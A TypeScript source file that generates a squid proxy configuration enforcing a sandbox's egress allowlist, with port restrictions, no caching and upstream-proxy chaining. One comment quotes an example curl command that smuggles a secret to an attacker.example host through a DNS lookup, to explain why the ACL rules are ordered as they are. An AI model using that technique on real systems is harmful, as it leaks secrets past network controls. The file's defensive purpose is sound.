import type { EgressSpec } from "../../spec.js";
import type { UpstreamProxy } from "./upstream-proxy.js";

/** The first word of every access-log line cordon reads decisions from (access-log.ts). */
export const accessLogTag = "cordon-egress";
/** What squid prints once it listens (readiness). */
export const readyMarker = "Accepting HTTP Socket connections";

/** `registry.npmjs.org` → `^registry\.npmjs\.org$`; `*.x.org` → `^.+\.x\.org$`. */
function hostRegex(entry: string): string {
  const escape = (text: string) => text.replace(/\./g, "\\.");
  return entry.startsWith("*.") ? `^.+\\.${escape(entry.slice(2))}$` : `^${escape(entry)}$`;
}

/**
 * squid.conf for one sandbox's proxy. Entries are validated host patterns (policy/egress.ts:
 * letters, digits, `-`, `.` and a leading `*.`), so nothing a user writes can add a directive.
 *
 * - HTTPS only as CONNECT to port 443, plain HTTP only to port 80, both only to allowed names;
 *   `-n` keeps squid from matching an address by its reverse DNS name.
 * - No name is looked up before the allowlist admitted it. `to_localhost` is a `dst` rule, which
 *   squid decides by resolving the requested name: met first, it sent every refused name to the
 *   resolver, so `curl -x … http://<secret>.attacker.example/` carried the secret out as a DNS
 *   query while being refused (egress-dns.integration.test.ts). So the order is: the ports, then
 *   refuse what is not allowed, then refuse an allowed name that resolves to this machine.
 * - Nothing is cached; one access-log line per request on stdout is the decision cordon emits.
 * - The host's own upstream proxy, when it has one, is the only way out (`never_direct`), except
 *   for the hosts its NO_PROXY names.
 */
export function squidConfig(
  egress: Pick<EgressSpec, "allow" | "proxyPort">,
  upstream?: UpstreamProxy,
): string {
  const lines = [
    `http_port ${egress.proxyPort}`,
    "pid_filename none",
    "pinger_enable off",
    "cache deny all",
    "cache_mem 0 MB",
    "cache_log stdio:/dev/stderr",
    "logfile_rotate 0",
    `logformat cordon ${accessLogTag} %rm %>rd %>rP %>Hs %Ss`,
    "access_log stdio:/dev/stdout cordon",
    "acl CONNECT method CONNECT",
    "acl https_port port 443",
    "acl http_port port 80",
    "http_access deny CONNECT !https_port",
    "http_access deny !CONNECT !http_port",
    // An empty list (a sandbox on the network only for cordon's model gateway) admits nothing.
    ...(egress.allow.length > 0
      ? [
          `acl allowed_hosts dstdom_regex -n -i ${egress.allow.map(hostRegex).join(" ")}`,
          "http_access deny !allowed_hosts",
          "http_access deny to_localhost",
          "http_access allow allowed_hosts",
        ]
      : []),
    "http_access deny all",
    "via off",
    "forwarded_for delete",
    "shutdown_lifetime 0 seconds",
  ];
  if (upstream) {
    const login = upstream.login ? ` login=${upstream.login}` : "";
    lines.push(
      `cache_peer ${upstream.host} parent ${upstream.port} 0 no-query no-digest default${login}`,
    );
    if (upstream.noProxy.length > 0) {
      lines.push(`acl upstream_bypass dstdomain ${upstream.noProxy.join(" ")}`);
      lines.push("always_direct allow upstream_bypass");
    }
    lines.push("never_direct allow all");
  }
  return `${lines.join("\n")}\n`;
}
